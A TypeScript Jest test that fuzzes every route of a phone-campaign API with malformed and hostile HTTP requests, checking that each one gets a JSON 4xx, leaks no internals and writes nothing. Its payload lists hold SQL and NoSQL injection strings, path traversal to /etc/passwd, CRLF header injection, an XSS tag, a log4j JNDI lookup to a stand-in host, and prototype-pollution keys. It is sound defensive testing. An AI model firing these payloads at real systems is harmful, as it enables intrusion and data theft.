/**
 * Hostile HTTP input against every route of the API, on the embedded stack: malformed and truncated JSON, bodies of
 * the wrong kind, wrong and missing content types, every field with the wrong type, huge and deeply nested bodies,
 * unicode edge cases and control characters, injection strings (SQL, JSON operators, path traversal, header
 * injection) in every field, path parameter and header, no identity, and another user's campaign. Every answer must
 * be a 4xx (or a 2xx for input that is in fact acceptable, such as a campaign named with SQL), JSON with a message,
 * with no stack, SQL, file path or internal name; and a refused request writes nothing (the tables' and the
 * do-not-call list's counts are compared around each one). The figures go to the reliability report.
 */

import { ScanCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, expect, it } from '@jest/globals';
import { type ApiRequest, apiEvent } from '../helpers/apiGateway.ts';
import { startSystemHarness } from '../helpers/systemHarness.ts';
import { itKeepsContactsPrivate } from './privacy.ts';
import { writeReportSection } from './report.ts';

const harness = await startSystemHarness();
afterAll(() => harness.stop());

type Fn = Parameters<typeof harness.http>[0];
interface Route {
  fn: Fn;
  method: ApiRequest['method'];
  resource: string;
  params: string[];
  /** A valid body, whose fields the cases spoil one by one; undefined for a route without a body. */
  body?: Record<string, unknown>;
  scopes?: string;
}

const OWNER = 'hostile-owner';
const INJECTIONS = [
  "'; DROP TABLE contacts; --",
  "1' OR '1'='1",
  '{"$ne": null}',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  'a\r\nX-Injected: yes',
  '<script>alert(1)</script>',
  // A log4j lookup, written with \u0024 so no linter takes it for a template placeholder.
  '\u0024{jndi:ldap://example.invalid/a}',
];
const UNICODE = [
  '\u0000',
  '\ud800',
  '\u202e\u0041\u0042',
  'e\u0301'.repeat(200),
  '\u{1F4DE}'.repeat(100),
  '\u0007\u001b[2J',
];
// Values that look like numbers, dates or zones and are not quite, or are at a type's edge.
const ODD_VALUES = [
  '9'.repeat(400),
  '\uff12\uff10\uff12\uff15\uff15\uff15\uff10\uff11\uff10\uff11',
  'NaN',
  '-0',
  '2026-02-30T25:61:00Z',
  'Etc/GMT+99',
  "' UNION SELECT phone_number FROM contacts --",
  '%0d%0aSet-Cookie:%20x=1',
];
const WRONG_TYPES: unknown[] = [42, -1.5, true, null, [], {}, ['a'], { nested: { deeper: 1 } }];

// Stacks, SQL, file paths and internal names: none may reach a caller.
const LEAK =
  /\bat [\w.<>]+ \(|\.(ts|js|cjs|mjs):\d+|node_modules|\/work\/|\/var\/task|\b(SELECT|INSERT|UPDATE|DELETE)\b[^"]*\b(FROM|INTO|SET)\b|relation "|syntax error at|duplicate key|violates|call_attempts|contacts_pkey|TypeError|ReferenceError|ECONNREFUSED|Unexpected token/;

let campaignId = '';
let contactId = '';
let importId = '';

async function counts(): Promise<string> {
  const { rows } = await harness.db.query(
    `SELECT (SELECT count(*) FROM campaigns) AS campaigns, (SELECT count(*) FROM contacts) AS contacts,
            (SELECT count(*) FROM call_attempts) AS attempts, (SELECT count(*) FROM imports) AS imports,
            (SELECT count(*) FROM rejected_messages) AS rejected,
            (SELECT string_agg(id || ':' || status || ':' || updated_at::text, ',' ORDER BY id) FROM campaigns) AS states`,
  );
  const listed = await harness.dynamo.send(
    new ScanCommand({ TableName: harness.stack.env.BLACKLIST_TABLE, Select: 'COUNT' }),
  );
  return JSON.stringify({ ...rows[0], listed: listed.Count });
}

function routes(): Route[] {
  const settings = {
    name: 'Hostile',
    callerId: '+12025550100',
    callFlow: 'flows/x',
    defaultRegion: 'US',
    defaultTimeZone: 'America/New_York',
    callingWindow: { start: '09:00', end: '17:00' },
    maxAttempts: 3,
    retryDelays: { busy: 10 },
    pacing: { callsPerMinute: 60, maxConcurrentCalls: 10 },
    startAt: '2030-01-01T09:00:00Z',
    endAt: '2030-02-01T09:00:00Z',
  };
  return [
    { fn: 'createCampaign', method: 'POST', resource: '/campaigns', params: [], body: settings },
    { fn: 'listCampaigns', method: 'GET', resource: '/campaigns', params: [] },
    {
      fn: 'updateCampaign',
      method: 'PATCH',
      resource: '/campaigns/{campaignId}',
      params: ['campaignId'],
      body: { ...settings, name: 'x' },
    },
    { fn: 'deleteCampaign', method: 'DELETE', resource: '/campaigns/{campaignId}', params: ['campaignId'] },
    {
      fn: 'addContacts',
      method: 'POST',
      resource: '/campaigns/{campaignId}/contacts',
      params: ['campaignId'],
      body: {
        contacts: [
          {
            phoneNumber: '+12025550199',
            id: 'c-9',
            timeZone: 'America/New_York',
            usState: 'NY',
            attributes: { a: 'b' },
          },
        ],
      },
    },
    {
      fn: 'listContacts',
      method: 'GET',
      resource: '/campaigns/{campaignId}/contacts',
      params: ['campaignId'],
    },
    {
      fn: 'deleteContact',
      method: 'DELETE',
      resource: '/campaigns/{campaignId}/contacts/{contactId}',
      params: ['campaignId', 'contactId'],
    },
    {
      fn: 'listAttempts',
      method: 'GET',
      resource: '/campaigns/{campaignId}/contacts/{contactId}/attempts',
      params: ['campaignId', 'contactId'],
    },
    {
      fn: 'createImport',
      method: 'POST',
      resource: '/campaigns/{campaignId}/imports',
      params: ['campaignId'],
    },
    {
      fn: 'getImport',
      method: 'GET',
      resource: '/campaigns/{campaignId}/imports/{importId}',
      params: ['campaignId', 'importId'],
    },
    {
      fn: 'startCampaign',
      method: 'POST',
      resource: '/campaigns/{campaignId}/start',
      params: ['campaignId'],
      body: { dryRun: true },
    },
    {
      fn: 'pauseCampaign',
      method: 'POST',
      resource: '/campaigns/{campaignId}/pause',
      params: ['campaignId'],
    },
    {
      fn: 'resumeCampaign',
      method: 'POST',
      resource: '/campaigns/{campaignId}/resume',
      params: ['campaignId'],
    },
    {
      fn: 'cancelCampaign',
      method: 'POST',
      resource: '/campaigns/{campaignId}/cancel',
      params: ['campaignId'],
    },
    { fn: 'campaignStatus', method: 'GET', resource: '/campaigns/{campaignId}', params: ['campaignId'] },
    {
      fn: 'campaignPreview',
      method: 'GET',
      resource: '/campaigns/{campaignId}/preview',
      params: ['campaignId'],
    },
    {
      fn: 'campaignMetrics',
      method: 'GET',
      resource: '/campaigns/{campaignId}/metrics',
      params: ['campaignId'],
    },
    {
      fn: 'blacklistAdd',
      method: 'POST',
      resource: '/blacklist',
      params: [],
      body: { phoneNumber: '+12025550198', reason: 'asked' },
      scopes: 'dnc:write dnc:admin',
    },
    {
      fn: 'blacklistCheck',
      method: 'POST',
      resource: '/blacklist/lookup',
      params: [],
      body: { phoneNumber: '+12025550198' },
    },
    {
      fn: 'blacklistRemove',
      method: 'POST',
      resource: '/blacklist/remove',
      params: [],
      body: { phoneNumber: '+12025550198', reason: 'mistake' },
      scopes: 'dnc:admin',
    },
  ];
}

/** Every field of a body: its own, those of its nested objects, and those of the first item of its lists. */
function fieldPaths(body: unknown, prefix: Array<string | number> = []): Array<Array<string | number>> {
  if (Array.isArray(body)) return body.length > 0 ? fieldPaths(body[0], [...prefix, 0]) : [];
  if (body === null || typeof body !== 'object') return [];
  return Object.entries(body).flatMap(([key, value]) => [
    [...prefix, key],
    ...fieldPaths(value, [...prefix, key]),
  ]);
}

/** A copy of `body` with the value at `path` replaced. */
function withValue(body: unknown, path: ReadonlyArray<string | number>, value: unknown): unknown {
  const [head, ...rest] = path;
  if (head === undefined) return value;
  if (Array.isArray(body)) return body.map((item, i) => (i === head ? withValue(item, rest, value) : item));
  const object = (body ?? {}) as Record<string, unknown>;
  return { ...object, [head]: withValue(object[head], rest, value) };
}

/** The strings a request sent: a 2xx may echo the caller's own values (a campaign named with SQL), no leak. */
function sentStrings(value: unknown): string[] {
  if (typeof value === 'string') {
    try {
      return [value, ...sentStrings(JSON.parse(value))];
    } catch {
      return [value];
    }
  }
  if (value === null || typeof value !== 'object') return [];
  return Object.values(value).flatMap(sentStrings);
}

function withoutEcho(text: string, request: ApiRequest): string {
  // The hostile values too: a list answers the owner's campaigns, named by earlier requests.
  const sent = sentStrings([
    request.body,
    request.pathParameters,
    request.query,
    INJECTIONS,
    ODD_VALUES,
  ]).filter((s) => s.length >= 8);
  return sent.reduce((rest, value) => rest.split(JSON.stringify(value).slice(1, -1)).join(''), text);
}

interface Case {
  route: Route;
  what: string;
  request: ApiRequest;
}

/** The hostile cases of a route: its body spoiled every way, its path parameters and headers too, no identity. */
function casesOf(route: Route): Case[] {
  const ids: Record<string, string> = { campaignId, contactId, importId };
  const pathParameters = Object.fromEntries(route.params.map((p) => [p, ids[p] ?? 'x']));
  const base: ApiRequest = {
    method: route.method,
    resource: route.resource,
    pathParameters,
    userId: OWNER,
    ...(route.scopes ? { scopes: route.scopes } : {}),
    ...(route.body ? { body: route.body } : {}),
  };
  const cases: Case[] = [];
  const add = (what: string, change: Partial<ApiRequest>) =>
    cases.push({ route, what, request: { ...base, ...change } });

  add('no identity', { userId: undefined });
  if (route.params.includes('campaignId')) add('another user’s campaign', { userId: 'intruder' });
  for (const param of route.params) {
    for (const value of [...INJECTIONS, 'a'.repeat(70_000), '', ' ', '\u0000', '%00', '*'])
      add(`path ${param} = ${JSON.stringify(value.slice(0, 20))}`, {
        pathParameters: { ...pathParameters, [param]: value },
      });
  }
  add('header injection', {
    headers: { 'X-Forwarded-For': 'a\r\nSet-Cookie: x=1', 'Idempotency-Key': INJECTIONS[0] ?? '' },
  });
  if (route.method === 'GET' && route.params.length <= 1)
    for (const query of [
      { limit: '-1' },
      { limit: 'abc' },
      { limit: '1e309' },
      { cursor: INJECTIONS[0] ?? '' },
      { cursor: 'a'.repeat(5000) },
    ] as Array<Record<string, string>>)
      add(`query ${JSON.stringify(query).slice(0, 30)}`, { query });
  if (route.body === undefined) return cases;

  for (const raw of ['{"name": ', '{', '[', 'null', '[]', '"text"', '123', 'true', '{"a":1}}', '\u0000', ''])
    add(`body ${JSON.stringify(raw)}`, { body: raw });
  add('text/plain body', { headers: { 'Content-Type': 'text/plain' } });
  add('no content type', { headers: { 'Content-Type': '' } });
  add('form body', {
    body: 'name=x&callerId=y',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  });
  add('huge field', { body: { ...route.body, huge: 'x'.repeat(2_000_000) } });
  // As text: built as an object, it would overflow this test's own JSON.stringify.
  const deep = `${'{"n":'.repeat(20_000)}"deep"${'}'.repeat(20_000)}`;
  add('deeply nested', { body: `${JSON.stringify(route.body).slice(0, -1)},"deep":${deep}}` });
  add('unknown field', {
    body: { ...route.body, __proto__x: 1, constructor: { prototype: { polluted: true } } },
  });
  for (const path of fieldPaths(route.body)) {
    const field = path.join('.');
    for (const wrong of WRONG_TYPES)
      add(`${field} = ${JSON.stringify(wrong)}`, { body: withValue(route.body, path, wrong) });
    for (const text of [...INJECTIONS, ...UNICODE, ...ODD_VALUES])
      add(`${field} = ${JSON.stringify(text).slice(0, 24)}`, { body: withValue(route.body, path, text) });
  }
  return cases;
}

it('answers every hostile request with a JSON 4xx and no internals, and writes nothing for any it refuses', async () => {
  // Prepare: the owner's draft campaign with a contact, and an import of it
  const created = await harness.http(
    'createCampaign',
    apiEvent({
      method: 'POST',
      resource: '/campaigns',
      userId: OWNER,
      body: { name: 'Target', callerId: '+12025550100', callFlow: 'flows/x' },
    }),
  );
  campaignId = String(created.body.campaignId);
  await harness.http(
    'addContacts',
    apiEvent({
      method: 'POST',
      resource: '/campaigns/{campaignId}/contacts',
      pathParameters: { campaignId },
      userId: OWNER,
      body: { contacts: [{ id: 'c-1', phoneNumber: '+12025550101' }] },
    }),
  );
  contactId = 'c-1';
  const opened = await harness.http(
    'createImport',
    apiEvent({
      method: 'POST',
      resource: '/campaigns/{campaignId}/imports',
      pathParameters: { campaignId },
      userId: OWNER,
    }),
  );
  importId = String(opened.body.importId);

  // Act
  const results: Array<{
    fn: string;
    what: string;
    status: number;
    leak?: string;
    wrote: boolean;
    noMessage: boolean;
  }> = [];
  for (const route of routes()) {
    for (const hostile of casesOf(route)) {
      const before = await counts();
      const response = await harness.http(route.fn, apiEvent(hostile.request));
      const after = await counts();
      const text = typeof response.body === 'string' ? response.body : JSON.stringify(response.body ?? null);
      const leak = LEAK.exec(withoutEcho(text, hostile.request))?.[0];
      const refused = response.statusCode >= 400;
      results.push({
        fn: route.fn,
        what: hostile.what,
        status: response.statusCode,
        ...(leak ? { leak } : {}),
        wrote: refused && before !== after,
        noMessage:
          refused && typeof (response.body as { message?: unknown } | undefined)?.message !== 'string',
      });
    }
  }

  // Assert and report
  const summary = {
    tried: results.length,
    routes: new Set(results.map((r) => r.fn)).size,
    answered2xx: results.filter((r) => r.status < 300).length,
    answered4xx: results.filter((r) => r.status >= 400 && r.status < 500).length,
    answered5xx: results.filter((r) => r.status >= 500).length,
    leaks: results.filter((r) => r.leak).length,
    writes: results.filter((r) => r.wrote).length,
    withoutMessage: results.filter((r) => r.noMessage).length,
  };
  await writeReportSection('hostileHttp', summary);
  expect(summary.tried).toBeGreaterThanOrEqual(1_000);
  expect(summary.routes).toBe(routes().length);
  expect(results.filter((r) => r.status >= 500)).toEqual([]);
  expect(results.filter((r) => r.leak)).toEqual([]);
  expect(results.filter((r) => r.wrote)).toEqual([]);
  expect(results.filter((r) => r.noMessage)).toEqual([]);
}, 600_000);

itKeepsContactsPrivate(harness, 'hostileHttp');
